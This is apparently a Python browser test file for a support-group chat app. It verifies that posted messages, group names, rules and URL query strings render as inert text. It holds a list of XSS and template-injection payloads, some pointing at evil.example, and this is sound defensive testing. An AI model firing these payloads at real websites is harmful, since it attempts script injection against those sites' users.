"""Everything people write is inert: a corpus of hostile text, posted to a room, executes
nothing in a real Chromium and displays exactly as typed, live (over the websocket) and
after a reload (rendered by the server). The same for what facilitators write (group
names, descriptions, ground rules) on every page that shows it, and for what arrives in
the address (query strings echoed into pages).

"Executes nothing" is checked four ways: no dialog opens (alert/confirm/prompt), the
window flag every payload tries to set (`window.__pwned`) stays undefined, the page
reports no Content-Security-Policy violation (so nothing was even injected for the CSP
to block), and the document holds no element or attribute a payload could have brought
(event handlers, javascript: URLs, frames, SVG, images...). Every request the pages make
goes to our own origin.
"""

from __future__ import annotations

import re
from typing import Any
from urllib.parse import quote

import pytest
from browserkit import (
    Account,
    Person,
    PersonFactory,
    SiteServer,
    message_bodies,
    wait_for_message,
)

pytestmark = pytest.mark.browser

PWN = "window.__pwned=1"
LONG_WORD = "A" * 3900  # one word, no break opportunity, just under the 4,000 limit

# What people might post, by accident or on purpose. No CR: HTML turns CR LF into LF when
# the page is parsed, which is the one change to text a browser makes by design.
PAYLOADS = [
    f"<script>{PWN}</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    f"<img src=x onerror={PWN}>",
    f'<img src="https://evil.example/pixel.png" onload="{PWN}">',
    f"<svg onload={PWN}>",
    f"<svg><script>{PWN}</script></svg>",
    f'<svg><a xlink:href="javascript:{PWN}"><text y="20">tap</text></a></svg>',
    f'<iframe src="javascript:{PWN}"></iframe>',
    '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    f'<a href="javascript:{PWN}">a link</a>',
    f'<a href="&#106;avascript:{PWN}">encoded link</a>',
    f"<details open ontoggle={PWN}>",
    f"<body onload={PWN}>",
    f"<input autofocus onfocus={PWN}>",
    f'<object data="javascript:{PWN}"></object><embed src="javascript:{PWN}">',
    f'<meta http-equiv="refresh" content="0;url=javascript:{PWN}">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>body { display: none }</style>",
    '<form action="https://evil.example/"><button>Continue</button></form>',
    f"<math><mtext><table><mglyph><style><img src=x onerror={PWN}>",
    f'<noscript><p title="</noscript><img src=x onerror={PWN}>">',
    f'<!--<img src="--><img src=x onerror={PWN}//">',
    f'"><img src=x onerror={PWN}>',
    f"'><script>{PWN}</script>",
    f"</p></li></ol><script>{PWN}</script>",
    f"</textarea><script>{PWN}</script>",
    f"</script><script>{PWN}</script>",
    f"<scr<script>ipt>{PWN}</scr</script>ipt>",
    f"'; {PWN}; //",
    f"[click me](javascript:{PWN})",
    "![a picture](https://evil.example/x.png)",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "**bold** _italic_ `code` <https://evil.example>",
    f"&lt;script&gt;{PWN}&lt;/script&gt;",
    f"&#60;img src=x onerror={PWN}&#62; &#x3C;b&#x3E; &amp;lt;i&amp;gt;",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {{ csrf }} {% raw %}",
    "{{constructor.constructor('window.__pwned=1')()}}",
    f"javascript:{PWN}",
    "I feel \u202eesrow\u202c today (a right-to-left override)",
    "\u2067isolated\u2069 \u200fmarks\u200e",
    "zero\u200bwidth\u200cjoin\u200dword\u2060joiner\ufeffbom",
    "\u200b\u200c\u200d",
    "a line\n<b>not bold</b>\n\n  indented line",
    "alert(1); confirm(1); prompt(1)",
    LONG_WORD,
    "https://" + "long-address-" * 150,
]
# Typed into the composer instead (the optimistic "sending" bubble renders them first).
TYPED = [
    f"<img src=x onerror={PWN}> typed",
    f"[typed](javascript:{PWN}) {{{{7*7}}}}",
]

# Set up before any page script runs (through DevTools, so the page's CSP doesn't apply):
# record CSP violations; a payload that got into the DOM would cause one.
WATCH = """
window.__csp = [];
document.addEventListener("securitypolicyviolation", (e) => {
  window.__csp.push(`${e.violatedDirective} ${e.blockedURI} ${e.sample}`);
});
"""

INSPECT = """
() => {
  const bad = [];
  if (typeof window.__pwned !== "undefined") bad.push("window.__pwned was set");
  const urlAttrs = ["href", "src", "action", "formaction", "data", "xlink:href", "srcdoc"];
  for (const el of document.querySelectorAll("*")) {
    for (const a of el.attributes) {
      const name = a.name.toLowerCase();
      if (name.startsWith("on")) bad.push(`<${el.localName} ${a.name}>`);
      if (urlAttrs.includes(name) && /^\\s*(javascript|vbscript|data):/i.test(a.value)) {
        bad.push(`<${el.localName} ${a.name}=${a.value.slice(0, 60)}>`);
      }
    }
  }
  const forbidden = [
    "iframe", "frame", "object", "embed", "base", "img", "svg", "math", "video", "audio",
    "style", "template", "noscript", "meta[http-equiv]", "body form[action^='http']",
    "link:not([href^='/static/'])",
    "script:not([src='/static/room.js']):not([src='/static/support.js'])"
      + ":not([src='/static/exit-guard.js'])",
  ];
  for (const selector of forbidden) {
    for (const el of document.querySelectorAll(selector)) {
      bad.push(`a <${el.localName}> element: ${el.outerHTML.slice(0, 80)}`);
    }
  }
  if (document.querySelectorAll("head > title").length !== 1) bad.push("the <title> moved");
  if (document.querySelectorAll("body").length !== 1) bad.push("a second <body>");
  return { bad, csp: window.__csp || ["the watcher did not run"] };
}
"""

# Each message is exactly: <li class="msg"><p class="who"><span class="alias"/> <time/></p>
# <p class="body">text only</p></li>, then (on others' messages) our own "⋯" menu.
MESSAGE_STRUCTURE = """
() => {
  const bad = [];
  for (const li of document.querySelectorAll("#messages li.msg")) {
    const kids = [...li.children].map((e) => `${e.localName}.${e.className}`);
    const shape = kids.join(" ");
    if (shape !== "p.who p.body" && shape !== "p.who p.body details.more") {
      bad.push(`li ${li.id}: ${shape}`);
    }
    const menu = li.querySelector("details.more");
    if (menu && menu.querySelector("form.worried") === null) bad.push(`li ${li.id}: odd menu`);
    const who = [...li.querySelector(".who").children].map((e) => e.localName).join(" ");
    if (who !== "span time") bad.push(`li ${li.id} .who: ${who}`);
    const body = li.querySelector(".body");
    if (body.children.length) bad.push(`li ${li.id} .body holds ${body.innerHTML.slice(0, 80)}`);
  }
  return bad;
}
"""


def watch(p: Person, requests: list[str]) -> list[str]:
    """Record every request the person's pages make; arm the CSP-violation watcher."""
    p.context.add_init_script(WATCH)
    p.context.on("request", lambda r: requests.append(r.url))
    return requests


def assert_inert(p: Person, where: str) -> None:
    found: dict[str, Any] = p.page.evaluate(INSPECT)
    assert not found["bad"], f"{where}: {found['bad']}"
    assert not found["csp"], f"{where}: Content-Security-Policy violations: {found['csp']}"
    assert not p.dialogs, f"{where}: dialogs opened: {p.dialogs}"
    assert not p.errors, f"{where}: JavaScript errors: {p.errors}"


def assert_same_origin(site: SiteServer, requests: list[str], *people: Person) -> None:
    """Every request went to our origin, and none carried a session or CSRF token in its
    address (where logs, history and Referer headers would keep it)."""
    assert requests, "no requests were recorded"
    foreign = [u for u in requests if not (u == site.url or u.startswith(site.url + "/"))]
    assert not foreign, f"requests left {site.url}: {foreign}"
    for p in people:
        secrets = [c["value"] for c in p.context.cookies() if c["name"].endswith("ss_session")]
        secrets += [c["value"] for c in p.context.cookies() if c["name"].endswith("ss_csrf")]
        assert secrets or p.label == "visitor", f"{p.label} has no cookies?"
        leaked = [u for u in requests for secret in secrets if secret and secret in u]
        assert not leaked, f"a token in an address: {leaked}"


def assert_messages_are_text(p: Person, expected: list[str], where: str) -> None:
    assert message_bodies(p.page) == expected, where
    assert p.page.evaluate(MESSAGE_STRUCTURE) == [], where
    # Nothing widens the page sideways, not even a 3,900-letter word.
    overflow = p.page.evaluate(
        """() => {
        const log = document.getElementById("log");
        return [document.documentElement.scrollWidth - document.documentElement.clientWidth,
                log.scrollWidth - log.clientWidth];
    }"""
    )
    assert overflow == [0, 0], f"{where}: content overflows sideways by {overflow} px"
    assert_inert(p, where)


def test_hostile_messages_display_as_text_live_and_after_reload(
    site: SiteServer, person: PersonFactory
) -> None:
    assert len(PAYLOADS) + len(TYPED) < 50, "the room renders the latest 50: keep the corpus under"
    group = site.create_group()
    viewer = site.signup_api()
    site.join_api(viewer, group)
    # Several posters, each well under the per-person message rate limit.
    posters = [site.signup_api() for _ in range(3)]
    for poster in posters:
        site.join_api(poster, group)

    reader = person("reader", viewer)
    requests = watch(reader, [])
    reader.open_room(group["slug"])
    page = reader.page

    for i, body in enumerate(PAYLOADS):
        site.post_api(posters[i % len(posters)], group["room_id"], body)
    try:
        page.wait_for_function(
            "n => document.querySelectorAll('#messages li.msg:not(.pending)').length >= n",
            arg=len(PAYLOADS),
        )
        for body in TYPED:
            page.get_by_label(re.compile("Message to")).fill(body)
            page.get_by_role("button", name="Send").click()
            wait_for_message(page, body)
    except Exception:
        assert_inert(reader, "while the messages arrived")  # say what went wrong, if it can
        raise
    expected = PAYLOADS + TYPED
    assert_messages_are_text(reader, expected, "live, over the websocket")
    # The screen reader announcement is text too.
    assert page.locator("#announcer").evaluate("e => e.children.length") == 0

    page.reload(wait_until="load")
    assert_messages_are_text(reader, expected, "after a reload, rendered by the server")

    stored = [m["body"] for m in site.history_api(viewer, group["room_id"], limit=100)]
    assert stored == expected  # and the API hands back exactly what was sent
    assert_same_origin(site, requests, reader)


GROUP_NAME = f'"><svg onload={PWN}>{{{{7*7}}}}</title><script>{PWN}</script>'
assert len(GROUP_NAME) <= 80
DESCRIPTION = "\n".join(PAYLOADS[:12] + ["{{7*7}} ${7*7}", "\u202eevil\u202c"])
RULES = [
    f"</textarea><script>{PWN}</script>",
    f"<img src=x onerror={PWN}>",
    f"[rule](javascript:{PWN})",
    "{{ csrf }} ${7*7}",
    "Be kind \u202eevil\u202c",
]


def test_group_names_descriptions_and_rules_are_inert_everywhere(
    site: SiteServer, person: PersonFactory
) -> None:
    group = site.create_group(name=GROUP_NAME, description=DESCRIPTION)
    slug = group["slug"]
    assert (group["name"], group["description"]) == (GROUP_NAME, DESCRIPTION)
    facilitator = site.facilitator
    r = site.api.put(
        f"/api/v1/groups/{slug}/rules", json={"rules": RULES}, headers=facilitator.headers
    )
    assert r.status_code == 200, r.text
    assert r.json()["group"]["rules"] == RULES
    member = site.signup_api()
    site.join_api(member, group)
    # Aliases can't carry markup at all: only letters, digits, _ and -.
    for alias in (f"<img src=x onerror={PWN}>", "{{7*7}}", "a\u202eb", "x" * 40):
        r = site.api.put(
            f"/api/v1/groups/{slug}/alias", json={"alias": alias}, headers=member.headers
        )
        assert r.status_code == 422, (alias, r.status_code, r.text)
    site.post_api(member, group["room_id"], "Hello.")

    title = f"{GROUP_NAME} · SafeSpace"
    for who, account in (("member", member), ("facilitator", facilitator)):
        p = person(who, Account(account.username, account.password))
        requests = watch(p, [])
        page = p.page

        p.goto("/groups")
        card = page.locator("li.group-card").filter(has=page.locator(f"a[href='/g/{slug}']"))
        assert card.locator(".card-title").text_content() == GROUP_NAME
        assert (card.locator(".card-text").text_content() or "").startswith(DESCRIPTION[:100])
        assert_inert(p, f"/groups as {who}")

        p.goto(f"/g/{slug}")
        assert page.title() == title
        assert page.locator("main h1").text_content() == GROUP_NAME
        assert page.locator("main .prose p").text_content() == DESCRIPTION
        assert page.locator("main ol.rules > li").all_text_contents() == RULES
        assert_inert(p, f"the group page as {who}")

        p.open_room(slug)
        assert page.title() == title
        assert page.locator("main h1").text_content() == GROUP_NAME
        assert page.get_by_label("Message to " + GROUP_NAME).count() == 1
        assert_inert(p, f"the room as {who}")

        if who == "facilitator":
            p.goto(f"/g/{slug}/rules/edit")
            assert page.locator("#rules").input_value() == "\n".join(RULES)
            assert_inert(p, "the rules editor")
        assert_same_origin(site, requests, p)


def test_text_from_the_address_is_inert(site: SiteServer, person: PersonFactory) -> None:
    """Query strings some pages echo (next, error, notice, tag, sort), and a path that
    doesn't exist, all carrying markup: nothing runs, nothing leaves our origin (nor on
    the pages only facilitators and administrators see, which test_browser_content's
    origin check doesn't visit)."""
    group = site.create_group()
    slug = group["slug"]
    admin = site.create_user_cli("admin")
    site.join_api(admin, group)
    hostile = quote(f'"><img src=x onerror={PWN}><script>{PWN}</script>{{{{7*7}}}}', safe="")
    paths = [
        f"/login?next={hostile}",
        f"/login?next=/{hostile}",
        f"/signup?next={hostile}",
        f"/groups?tag={hostile}&sort={hostile}",
        f"/g/{slug}?error={hostile}&saved={hostile}",
        f"/{hostile}",
        f"/g/{hostile}",
    ]
    signed_in = [
        "/groups/new",  # and the pages only facilitators and admins see
        f"/g/{slug}/rules/edit",
        f"/settings?notice={hostile}",
        f"/admin?notice={hostile}",
        f"/g/{slug}/room?notice={hostile}",
    ]
    visitor = person("visitor")
    requests = watch(visitor, [])
    for path in paths:
        visitor.goto(path)
        assert_inert(visitor, path)
    p = person("admin", admin)
    watch(p, requests)
    for path in paths + signed_in:
        p.goto(path)
        assert_inert(p, f"{path} (signed in)")
    assert_same_origin(site, requests, visitor, p)
